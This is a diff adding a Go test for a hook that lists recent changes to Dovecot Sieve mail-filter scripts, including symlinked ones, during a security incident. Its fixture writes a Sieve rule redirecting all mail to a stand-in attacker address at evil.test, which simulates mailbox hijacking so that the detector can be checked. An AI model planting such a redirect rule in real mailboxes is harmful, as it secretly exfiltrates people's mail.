@@ -1,6 +1,7 @@
 package hook_test
 
 import (
+	"errors"
 	"fmt"
 	"os"
 	"os/exec"
@@ -220,6 +221,51 @@ func TestListSieveChanges(t *testing.T) {
 	}
 	if said := mustTell(t, "confirmed", "bob@example.org", "list-sieve-changes", args...); said != "" {
 		t.Errorf("at another event it says %q", said)
+	}
+}
+
+// The script in use is a link (~/.dovecot.sieve), and a thief may change the link alone.
+func TestListSieveLinks(t *testing.T) {
+	t.Parallel()
+	needs(t, "python3", "setpriv")
+	dir, err := os.MkdirTemp("", "sieve") // others than root may look into it
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	old := time.Now().AddDate(0, -6, 0)
+	err = errors.Join(os.Chmod(dir, 0o755), os.Mkdir(dir+"/sieve", 0o755),
+		os.WriteFile(dir+"/sieve/old.sieve", []byte("discard;\n"), 0o644), os.Chtimes(dir+"/sieve/old.sieve", old, old),
+		os.Symlink("old.sieve", dir+"/sieve/active"), os.WriteFile(dir+"/new.sieve", []byte("redirect \"thief@evil.test\";\n"), 0o600),
+		os.Symlink("new.sieve", dir+"/.dovecot.sieve"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	said := mustTell(t, "opened", "bob", "list-sieve-changes", "30", dir+"/sieve", dir+"/.dovecot.sieve")
+	for _, want := range []string{"active -> old.sieve", `.dovecot.sieve:1:redirect "thief@evil.test"`} {
+		if !strings.Contains(said, want) || strings.Contains(said, "nothing changed") {
+			t.Errorf("no %q in\n%s", want, said)
+		}
+	}
+	script, err := filepath.Abs("../deploy/hooks")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.CopyFS(dir+"/hooks", os.DirFS(script)); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("setpriv", "--reuid=65534", "--clear-groups", "sh", dir+"/hooks/list-sieve-changes", "30", dir+"/new.sieve")
+	cmd.Stdin = strings.NewReader(`{"event":"opened","incident":"I3","sender":"bob"}`)
+	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "NOT READ: no permission") {
+		t.Errorf("a file that it may not read: %v: %s", err, out)
+	}
+	for i := range 60 {
+		if err := os.WriteFile(fmt.Sprintf("%s/sieve/%d.sieve", dir, i), []byte("keep;\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if said := mustTell(t, "opened", "bob", "list-sieve-changes", "30", dir+"/sieve"); !strings.Contains(said, "and 11 more") {
+		t.Errorf("more than it lists:\n%s", said)
 	}
 }
 
